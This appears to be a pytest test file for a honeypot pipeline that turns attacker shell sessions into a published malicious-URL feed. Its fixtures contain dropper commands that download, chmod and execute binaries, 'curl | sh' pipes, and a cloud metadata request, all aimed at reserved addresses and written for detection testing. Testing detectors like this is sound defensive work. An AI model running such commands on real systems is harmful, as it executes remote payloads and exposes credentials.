from __future__ import annotations

import hashlib
from datetime import timedelta

import pytest
from tests.pipeline.conftest import ELF, START, Bench

from urltrap.feeds import render
from urltrap.model.verdict import Verdict
from urltrap.store.queries import artifacts, feed, overview, sessions, top, urls

URL = b"http://198.51.100.9/bins/mips"


def listed(bench: Bench) -> list[str]:
    rows = feed.rows(bench.store, bench.time, bench.settings.publish.min_confidence)
    text = render("txt", rows, bench.time).decode()
    return [line for line in text.splitlines() if not line.startswith("#")]


def verdict(bench: Bench, url: bytes = URL) -> Verdict:
    detail = urls.detail(bench.store, url.decode())
    assert detail is not None and detail.verdict is not None
    return detail.verdict


def attack(bench: Bench, url: bytes = URL, address: str = "203.0.113.77") -> str:
    """A dropper's session: download, make executable, run."""
    session = bench.visit(
        b"cd /tmp; wget " + url + b" -O .x && chmod +x .x && ./.x",
        asks=[(url, b"/tmp/.x")],
        runs=[[b"wget", url], [b"chmod", b"+x", b".x"], [b"./.x"]],
        address=address,
    )
    bench.trap_fetches(url, session)
    return session


def test_a_command_becomes_a_url_in_the_feed(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    session = attack(bench)
    bench.line.drain()
    assert verdict(bench).verdict == "malicious-observed"
    assert listed(bench) == [URL.decode()]
    row = urls.page(bench.store).rows[0]
    assert (row.sha256, row.kind, row.outcome, row.status) == (
        hashlib.sha256(ELF).hexdigest(),
        "elf",
        "fetched",
        200,
    )
    assert sessions.detail(bench.store, session).summary.urls == 2  # type: ignore[union-attr]
    assert sessions.detail(bench.store, session).summary.classed == "dropper"  # type: ignore[union-attr]
    artifact = artifacts.page(bench.store).rows[0]
    assert artifact.analysis is not None and artifact.analysis.architecture == "mips"
    assert artifact.artifact.md5 == hashlib.md5(ELF).hexdigest()


def test_what_the_trap_asked_for_is_not_asked_for_again(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    attack(bench)
    bench.settle()
    assert len(bench.fetcher.requests) == 1


def test_a_url_that_no_program_asked_for_is_captured_by_the_pipeline(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    session = bench.visit(b"unknownfetcher; busybox wget " + URL + b"; sh mips", runs=[[b"sh", b"mips"]])
    bench.settle()
    assert [(request.url, request.for_session) for request in bench.fetcher.requests] == [(URL, session)]
    assert bench.fetcher.requests[0].client == "wget"
    assert verdict(bench).verdict == "malicious-observed"


def test_a_trap_that_died_after_its_program_asked_is_stood_in_for(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    bench.visit(b"wget " + URL, asks=[(URL, b"x")])
    bench.line.drain()
    assert bench.fetcher.requests == []
    bench.settle()
    assert len(bench.fetcher.requests) == 1


def test_naming_a_site_that_answers_a_page_makes_nothing_malicious(bench: Bench) -> None:
    url = b"https://bank.example.com.br/login"
    bench.fetcher.bodies[url.decode()] = b"<!DOCTYPE html><html><body>Welcome</body></html>"
    session = bench.visit(b"wget -O- " + url + b" | sh", asks=[(url, b"-")])
    bench.trap_fetches(url, session)
    bench.settle()
    assert verdict(bench, url).verdict == "unknown"
    assert listed(bench) == []


@pytest.mark.parametrize(
    "url", [b"https://ifconfig.me/", b"http://speedtest.tele2.net/100MB.zip", b"https://get.docker.com/"]
)
def test_known_benign_sites_stay_benign_even_when_their_scripts_are_run(bench: Bench, url: bytes) -> None:
    bench.fetcher.bodies[url.decode()] = b"#!/bin/sh\nwget http://x/\nchmod +x y\n"
    for n in range(3):
        session = bench.visit(b"curl -s " + url + b" | sh", asks=[(url, b"-")], address=f"203.0.113.{n}")
        bench.trap_fetches(url, session)
    bench.settle()
    assert verdict(bench, url).verdict == "benign-context"
    assert url.decode() not in listed(bench)


def test_a_script_that_was_downloaded_is_searched_and_its_urls_are_captured(bench: Bench) -> None:
    second = "http://198.51.100.9/bins/arm"
    bench.fetcher.bodies[URL.decode()] = (
        b"#!/bin/sh\nwget http://198.51.100.9/bins/arm; chmod 777 arm; ./arm\n"
    )
    bench.fetcher.bodies[second] = ELF
    attack(bench)
    bench.settle()
    assert verdict(bench, second.encode()).verdict == "malicious-observed"
    assert set(listed(bench)) == {URL.decode(), second}
    detail = urls.detail(bench.store, second)
    assert detail is not None
    assert (
        detail.sightings[0].sighting.parent_sha256
        == hashlib.sha256(bench.fetcher.bodies[URL.decode()]).hexdigest()
    )  # type: ignore[arg-type]


def test_a_chain_of_scripts_without_end_is_cut(bench: Bench) -> None:
    class Endless(dict[str, bytes | str]):
        def get(self, url: str, default: object = None) -> bytes:  # type: ignore[override]
            number = int(url.rsplit("/", 1)[1])
            return b"#!/bin/sh\nwget http://198.51.100.9/%d\nchmod +x %d\n" % (number + 1, number + 1)

    bench.fetcher.bodies = Endless()
    attack(bench, b"http://198.51.100.9/1")
    for _ in range(6):
        bench.settle()
    # Looks whether they are still there are no captures, and no links of the chain.
    assert 3 <= len([request for request in bench.fetcher.requests if request.purpose != "recheck"]) <= 6


def test_urls_in_an_uploaded_script_are_found_and_captured(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    bench.visit(uploads=[b"#!/bin/sh\ncd /tmp\nwget " + URL + b"\nchmod +x mips\n"])
    bench.settle()
    assert [request.url for request in bench.fetcher.requests] == [URL]


def test_flagged_urls_are_kept_but_neither_captured_nor_published(bench: Bench) -> None:
    bench.visit(
        b"wget http://127.0.0.1/a; wget http://example.com/b; wget http://192.0.2.10/own; wget http://10.0.0.1/c;"
        b"wget http://your-server/d; curl http://169.254.169.254/latest/meta-data"
    )
    bench.settle()
    assert bench.fetcher.requests == []
    rows = urls.page(bench.store).rows
    assert len(rows) == 6 and all(row.held and row.flags for row in rows)
    assert listed(bench) == []


def test_one_source_waits_and_a_second_source_publishes_at_once(tmp_path) -> None:  # type: ignore[no-untyped-def]
    bench = Bench(
        tmp_path, testing={"public_networks": ["198.51.100.0/24"]}, publish={"delay_minutes": [60, 600]}
    )
    bench.fetcher.bodies[URL.decode()] = ELF
    attack(bench)
    bench.settle()
    after = verdict(bench).publish_after
    assert after is not None and timedelta(minutes=60) <= after - START <= timedelta(minutes=600)
    assert listed(bench) == []
    attack(bench, address="203.0.113.99")
    bench.settle()
    assert listed(bench) == [URL.decode()]
    bench.close()


def test_the_wait_ends_by_itself(tmp_path) -> None:  # type: ignore[no-untyped-def]
    bench = Bench(
        tmp_path, testing={"public_networks": ["198.51.100.0/24"]}, publish={"delay_minutes": [60, 600]}
    )
    bench.fetcher.bodies[URL.decode()] = ELF
    attack(bench)
    bench.settle()
    after = verdict(bench).publish_after
    assert after is not None
    bench.time = after - timedelta(seconds=1)
    bench.line.drain()
    assert listed(bench) == []
    bench.time = after
    bench.line.drain()
    assert listed(bench) == [URL.decode()]
    bench.close()


@pytest.mark.parametrize("disguise", ["192.0.2.10", "192-0-2-10", "c000020a", "3221225994", "MTkyLjAuMi4xMA"])
def test_a_url_that_carries_the_sensors_address_is_withheld(bench: Bench, disguise: str) -> None:
    url = f"http://198.51.100.9/x?id={disguise}".encode()
    bench.fetcher.bodies[url.decode()] = ELF
    for n in range(2):
        session = bench.visit(
            b"wget " + url + b" -O y; chmod 755 y; ./y",
            asks=[(url, b"y")],
            runs=[[b"./y"]],
            address=f"203.0.113.{n}",
        )
        bench.trap_fetches(url, session)
    bench.settle()
    assert verdict(bench, url).verdict == "malicious-observed"
    assert verdict(bench, url).publish_after is None
    assert listed(bench) == []


def test_places_reach_lists_and_map(bench: Bench) -> None:
    bench.visit(b"id")
    bench.visit(b"id", address="192.0.2.200")
    bench.line.drain()
    assert {row.country: row.sessions for row in overview.countries(bench.store)} == {"NL": 1, "": 1}
    assert top.top(bench.store, "network")[0].second == b"AS64500"
    assert sessions.page(bench.store).rows[1].network == "Example"


def test_a_limited_request_is_asked_again_later(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = "limited"
    bench.visit(b"wget " + URL)
    bench.settle(minutes=1)
    bench.fetcher.bodies[URL.decode()] = ELF
    bench.settle(minutes=10)
    row = urls.page(bench.store).rows[0]
    assert row.kind == "elf"


def test_a_fetcher_that_is_away_is_asked_again(bench: Bench) -> None:
    answer = bench.fetcher.fetch
    tries: list[int] = []

    def away(request, timeout=120.0):  # type: ignore[no-untyped-def]
        if request.purpose != "recheck":
            tries.append(1)
        if len(tries) < 3:
            raise ConnectionRefusedError("no fetcher")
        return answer(request, timeout)

    bench.fetcher.fetch = away  # type: ignore[method-assign]
    bench.fetcher.bodies[URL.decode()] = ELF
    bench.visit(b"wget " + URL)
    for _ in range(4):
        bench.settle(minutes=20)
    assert len(tries) == 3
    assert urls.page(bench.store).rows[0].kind == "elf"
